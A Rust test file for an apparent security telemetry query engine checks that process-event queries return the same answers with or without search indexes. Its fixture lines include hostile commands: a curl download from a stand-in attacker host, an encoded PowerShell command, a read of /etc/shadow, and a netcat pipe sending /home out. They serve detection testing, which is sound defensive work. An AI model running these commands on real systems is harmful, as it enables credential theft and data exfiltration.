//! Answers with the indexes are the answers without them.

use std::path::Path;
use std::time::Duration;

use bartizan_model::{Action, Envelope, TenantId};
use bartizan_telemetry::Config;
use proptest::prelude::*;

use crate::world::{START, World, envelope, process};

const LINES: [&str; 12] = [
    "curl -o /tmp/.x http://Evil.example/x",
    "powershell.exe -EncodedCommand SQBFAFgA",
    "/bin/sh -c \"cat /etc/shadow|base64\"",
    "straße über ΑΣΑΣ",
    "İstanbul --port=8443",
    "a_b-c.d",
    "",
    "python3 -m http.server 8000",
    "tar czf - /home | nc 203.0.113.9 4444",
    "CURL HTTP://EVIL.EXAMPLE/X",
    "systemctl restart sshd",
    "curling stones",
];
const COLUMNS: [&str; 6] =
    ["ProcessCommandLine", "FileName", "FolderPath", "SHA256", "AccountName", "ProcessUniqueId"];
const TESTS: [&str; 15] = [
    "==",
    "=~",
    "has",
    "has_cs",
    "hasprefix",
    "hassuffix",
    "contains",
    "contains_cs",
    "startswith",
    "endswith",
    "!has",
    "!=",
    "hasprefix_cs",
    "startswith_cs",
    "endswith_cs",
];

/// Starts of programs with these lines, a file for every three.
fn world(tenant_rows: &[(usize, u32)]) -> World {
    let world = World::with(Config { max_hot_rows: 3, ..Config::default() });
    for (position, (line, pid)) in (1..).zip(tenant_rows) {
        let event = started(world.tenants[0], position, *line, *pid);
        world.telemetry.append(position, &[event]).unwrap();
    }
    world
}

fn started(tenant: TenantId, sequence: u64, line: usize, pid: u32) -> Envelope {
    let at = START.plus(Duration::from_secs(sequence * 7_000));
    let image = ["/usr/bin/curl", "/tmp/.X11-unix/kdevtmp", "/opt/Straße/Tool.bin"][line % 3];
    let user = ["alice", "www-data", "root"][line % 3];
    let child = process(pid, image, LINES[line % LINES.len()], user, at);
    envelope(tenant, (line % 4) as u8, sequence, at, Action::ProcessStarted(child), None)
}

/// A part of a value that is there, or something near it.
fn needle() -> impl Strategy<Value = String> {
    let line = (0..LINES.len(), any::<(u8, u8)>()).prop_map(|(line, (from, length))| {
        let letters: Vec<char> = LINES[line].chars().collect();
        let from = usize::from(from) % letters.len().max(1);
        letters.iter().skip(from).take(usize::from(length) % 14 + 1).collect()
    });
    prop_oneof![
        6 => line,
        2 => prop::sample::select(LINES.to_vec()).prop_map(str::to_owned),
        1 => "[a-zß.ΑΣσİ_ -]{0,6}",
        1 => prop::sample::select(vec!["kdevtmp", "ALICE", "www-data", "0505050505050505050505050505050505050505050505050505050505050505", "Tool.bin", "straße"]).prop_map(str::to_owned),
    ]
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

fn test() -> impl Strategy<Value = String> {
    let one =
        (prop::sample::select(COLUMNS.to_vec()), prop::sample::select(TESTS.to_vec()), needle())
            .prop_map(|(column, test, needle)| format!("{column} {test} {}", quoted(&needle)));
    let several = (
        prop::sample::select(COLUMNS.to_vec()),
        prop::sample::select(vec!["in", "in~", "has_any", "has_all", "!in"]),
        prop::collection::vec(needle(), 1..4),
    )
        .prop_map(|(column, test, needles)| {
            let needles: Vec<String> = needles.iter().map(|needle| quoted(needle)).collect();
            format!("{column} {test} ({})", needles.join(", "))
        });
    let number = (0_u32..9).prop_map(|pid| format!("ProcessId == {pid}"));
    prop_oneof![5 => one, 3 => several, 1 => number]
}

fn condition() -> impl Strategy<Value = String> {
    test().prop_recursive(2, 6, 2, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a}) and ({b})")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a}) or ({b})")),
            inner.prop_map(|a| format!("not({a})")),
        ]
    })
}

fn remove_indexes(folder: &Path) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            remove_indexes(&path);
        } else if path.extension().is_some_and(|ending| ending == "index") {
            std::fs::remove_file(path).unwrap();
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn the_index_changes_no_answer(
        rows in prop::collection::vec((0..LINES.len(), 1_u32..8), 6..24),
        conditions in prop::collection::vec(condition(), 8),
    ) {
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        runtime.block_on(async {
            let world = world(&rows);
            let questions: Vec<String> = conditions
                .iter()
                .map(|condition| format!("DeviceProcessEvents | where {condition} | project EventId | sort by EventId asc"))
                .collect();
            let mut with = Vec::new();
            for question in &questions {
                with.push(world.ask(0, question).await.rows);
            }
            remove_indexes(world.folder.path());
            for (question, with) in questions.iter().zip(with) {
                assert_eq!(world.ask(0, question).await.rows, with, "{question}");
            }
        });
    }
}

#[tokio::test]
async fn a_needle_opens_only_the_files_that_have_it() {
    let rows: Vec<(usize, u32)> =
        (0..30).map(|number| (if number == 17 { 1 } else { 3 }, 5)).collect();
    let world = world(&rows);
    let questions = [
        "FileName == \"kdevtmp\"",
        "FolderPath has \"X11-unix\"",
        "ProcessCommandLine has_any (\"EncodedCommand\", \"nothing\")",
        "ProcessCommandLine contains \" -encodedCommand sq\"",
        "ProcessCommandLine startswith \"powershell.e\"",
        "AccountName in~ (\"WWW-data\")",
    ];
    for question in questions {
        let answer = world.ask(0, &format!("DeviceProcessEvents | where {question}")).await;
        assert_eq!(answer.rows.len(), 1, "{question}");
        assert_eq!((answer.stats.files, answer.stats.files_read), (10, 1), "{question}");
    }
}
